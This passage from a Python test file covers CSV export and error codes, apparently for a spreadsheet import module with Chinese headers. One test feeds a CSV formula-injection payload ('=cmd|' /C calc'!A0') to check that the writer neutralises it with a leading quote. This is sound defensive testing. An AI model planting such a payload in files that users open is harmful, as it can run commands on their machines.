        [["=cmd|' /C calc'!A0", dt.date(2024, 3, 5), -1.5, None], ["甲,乙", None, 2, "'x"]],
    )
    assert out.getvalue() == (
        "名称,日期,金额,错误\r\n'=cmd|' /C calc'!A0,2024-03-05,-1.5,\r\n\"甲,乙\",,2,'x\r\n"
    )
    _, rows = read(out.getvalue().encode("utf-8-sig"))
    assert rows[0][1][0] == "'=cmd|' /C calc'!A0"


# --------------------------------------------------------------------------------------------
# Errors
# --------------------------------------------------------------------------------------------


def test_file_errors_are_coded_errors_with_stable_codes() -> None:
    error = refused(b"")
    assert isinstance(error, CodedError)
    assert error.code in FILE_ERROR_CODES
    problem = error.as_problem()
    assert problem["code"] == "FILE_EMPTY"
    assert problem["detail_zh"] and problem["detail_en"]


def test_the_documented_codes_are_the_ones_promised() -> None:
    promised = {
        "FILE_EMPTY",
        "FILE_TOO_LARGE",
        "FILE_TYPE_UNSUPPORTED",
        "FILE_ENCODING_UNSUPPORTED",
        "FILE_MALFORMED",
        "FILE_NO_HEADER",
        "XLSX_INVALID",
        "XLSX_TOO_MANY_CELLS",
        "XLSX_ZIP_BOMB",
        "XLSX_NO_SHEET",
        "COLUMN_UNKNOWN",
        "COLUMN_MISSING",
        "COLUMN_DUPLICATE",
    }
    assert promised <= FILE_ERROR_CODES
